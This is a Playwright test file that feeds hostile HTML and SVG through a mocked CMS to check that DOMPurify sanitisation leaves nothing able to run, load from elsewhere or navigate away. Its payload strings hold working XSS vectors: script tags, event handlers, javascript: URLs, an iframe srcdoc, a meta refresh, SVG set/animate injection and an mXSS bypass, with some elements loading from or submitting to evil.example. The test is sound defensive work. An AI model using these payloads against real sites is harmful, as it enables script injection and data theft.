import { expect, test, type Page } from '@playwright/test';
import { rewriteAnswer, routeEvil, serveSvgUploads } from './fixtures/hostile-cms.ts';
import { failOnPageErrors } from './fixtures/page-errors.ts';

// Issue 12, point 12: CMS HTML and SVG go through DOMPurify; nothing in them runs script, loads from elsewhere or
// navigates the showroom away. The CMS is played by page.route: the welcome article's first section gets hostile
// text and a hostile icon.

/** Every payload sets window.__pwned (or fetches from evil.example) if it ever runs. */
const HOSTILE_HTML = `
<p>Intro <a id="h-link" href="https://evil.example/page" target="_top">a link</a></p>
<script>window.__pwned = 'script'</script>
<img id="h-img" src="/no-such-image.png" onerror="window.__pwned = 'onerror'">
<a id="h-js" href="javascript:window.__pwned = 'javascript-href'">js link</a>
<a id="h-js2" href=" JaVaScRiPt:window.__pwned='js-mixed-case'">js link 2</a>
<iframe src="javascript:parent.__pwned = 'iframe'"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed">
<form action="https://evil.example/steal"><input name="q" autofocus onfocus="window.__pwned='onfocus'"><button id="h-submit">Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<style>body { display: none }</style>
<div id="h-cover" style="position: fixed; inset: 0; background: red">cover</div>
<details open ontoggle="window.__pwned='ontoggle'"><summary>more</summary>x</details>
<svg><use href="https://evil.example/sprite.svg#x"></use><foreignObject><iframe src="https://evil.example/fo"></iframe></foreignObject><script>window.__pwned='inline-svg-script'</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`;

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" onload="window.__pwned='svg-onload'">
<script>window.__pwned='svg-script'</script>
<foreignObject width="24" height="24"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.__pwned='foreign-object'"></iframe></foreignObject>
<use href="https://evil.example/sprite.svg#icon"/><use xlink:href="https://evil.example/sprite.svg#icon2"/>
<a href="javascript:window.__pwned='svg-link'"><rect width="4" height="4"/></a>
<set attributeName="onmouseover" to="window.__pwned='set'"/>
<animate attributeName="href" values="javascript:window.__pwned='animate'"/>
<image href="https://evil.example/tracker.png"/>
<path d="M3 7l9-4 9 4-9 4z" stroke="#ff0000" fill="none" onclick="window.__pwned='path-click'"/>
</svg>`;

interface WireArticle {
  id: number;
  sections: { text: string; icon: { svg: { url: string } } | null }[];
}

/** Serves the articles with hostile content in article 1, and lists every request to evil.example. */
async function hostileCms(page: Page): Promise<{ evil: string[] }> {
  const evil = await routeEvil(page.context());
  await rewriteAnswer(page, 'articles', (data) => {
    const section = (data as WireArticle[]).find((article) => article.id === 1)?.sections[0];
    if (section) {
      section.text = HOSTILE_HTML;
      if (section.icon) section.icon.svg.url = '/uploads/hostile-icon.svg';
    }
    return data;
  });
  await serveSvgUploads(page, new Map([['hostile-icon.svg', HOSTILE_SVG]]));
  return { evil };
}

failOnPageErrors();

const FORBIDDEN = ['script', 'iframe', 'object', 'embed', 'form', 'input', 'button#h-submit', 'meta', 'base', 'style'];

test('hostile HTML and SVG from the CMS are drawn harmless: nothing runs, loads from elsewhere or leaves', async ({
  page,
}) => {
  const { evil } = await hostileCms(page);
  await page.goto('/en/factory/factory-entrance?article=1');
  const dialog = page.getByTestId('modal.article');
  const section = dialog.getByTestId('article.section').first();
  await expect(section.locator('#h-link')).toBeVisible();
  // The icon is there (cleaned, and painted in the text colour: below).
  const icon = section.locator('[data-testid="icon"] > svg');
  await expect(icon).toHaveCount(1);

  for (const selector of FORBIDDEN) await expect(section.locator(selector), selector).toHaveCount(0);
  const found = await section.evaluate((root) => {
    const elements = [...root.querySelectorAll('*')];
    return {
      names: [...new Set(elements.map((element) => element.localName))],
      handlers: elements.flatMap((element) =>
        [...element.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name),
      ),
      scriptUrls: elements.flatMap((element) =>
        [...element.attributes].filter((a) => /^\s*javascript:/i.test(a.value)).map((a) => a.value),
      ),
    };
  });
  expect(found.names.filter((name) => ['foreignobject', 'use', 'set', 'animate', 'image'].includes(name))).toEqual([]);
  expect(found.handlers).toEqual([]);
  expect(found.scriptUrls).toEqual([]);
  await expect(icon.locator('path')).toHaveAttribute('stroke', 'currentColor');
  // The page stayed as it was: no fixed cover over it, the body shown.
  await expect(page.locator('#h-cover')).not.toHaveCSS('position', 'fixed');
  await expect(page.locator('body')).not.toHaveCSS('display', 'none');

  // Taps on what was a script link, the broken picture and the icon do nothing.
  await section.locator('#h-js').click();
  await section.locator('#h-img').click({ force: true });
  await icon.click({ force: true });
  await page.waitForTimeout(1000);
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(evil).toEqual([]);
  await expect(page).toHaveURL(/\/en\/factory\/factory-entrance\?article=1/);

  // A real link opens beside the showroom, never in its place, and the new page gets no handle on it.
  await expect(section.locator('#h-link')).toHaveAttribute('target', '_blank');
  await expect(section.locator('#h-link')).toHaveAttribute('rel', /noopener/);
  const popup = page.context().waitForEvent('page');
  await section.locator('#h-link').click();
  const opened = await popup;
  await expect.poll(() => opened.url()).toBe('https://evil.example/page');
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  await expect(page).toHaveURL(/\/en\/factory\/factory-entrance\?article=1/);
  await expect(dialog).toBeVisible();
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
});
